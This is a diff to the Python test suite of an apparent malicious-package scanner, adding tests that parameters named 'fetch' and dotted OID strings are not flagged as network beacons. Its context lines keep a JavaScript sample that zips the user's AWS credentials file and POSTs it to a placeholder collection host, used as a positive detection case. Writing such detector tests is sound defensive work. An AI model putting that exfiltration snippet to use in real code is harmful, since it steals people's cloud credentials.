@@ -363,3 +363,23 @@ def test_a_helper_that_fills_the_archive_it_is_given_fills_the_callers():
               "const archive = archiver('zip'); archive.file(os.homedir() + '/.aws/credentials', { name: 'c' });\n"
               "fetch('https://files.collect.example/u', { method: 'POST', body: archive });\n")
     assert any(f.rule == "code/secret-exfiltration" for f in run({"index.js": packed}))
+
+
+def test_a_parameter_named_like_a_global_is_not_the_global():
+    # nx@24.0.6's migrate.js: `fetchSupportsOptionalUpdates(fetch, name, version)` is handed its
+    # registry reader as `fetch`; calling it sends nothing anywhere.
+    code = ("const os = require('os');\n"
+            "async function check(fetch, name) { return fetch(name + os.userInfo().username + os.hostname()); }\n"
+            "check((n) => ({ n }), 'pkg');\n")
+    assert not any(f.kind == "call" and f.value == "fetch" for f in extract("index.js", code.encode()).facts)
+    assert not any(f.rule == "code/host-beacon" for f in run({"index.js": code}))
+
+
+def test_dotted_numbers_and_protocol_names_are_not_hosts():
+    # ssh2@1.17.0: curve OIDs ('1.3.101.112') and 'openssh.streamlocal' travel with a config object that
+    # also holds the host the client resolves; only a written host (or a name with a TLD) is a destination.
+    code = ("const dns = require('dns');\n"
+            "const OIDS = { ed25519: '1.3.101.112', stream: 'openssh.streamlocal' };\n"
+            "function connect(cfg) { const c = Object.assign({}, OIDS, cfg); dns.lookup(c.host, () => {}); }\n"
+            "connect({ privateKey: process.argv[2] });\n")
+    assert not any(f.rule in ("code/key-exfiltration", "code/host-beacon") for f in run({"index.js": code}))
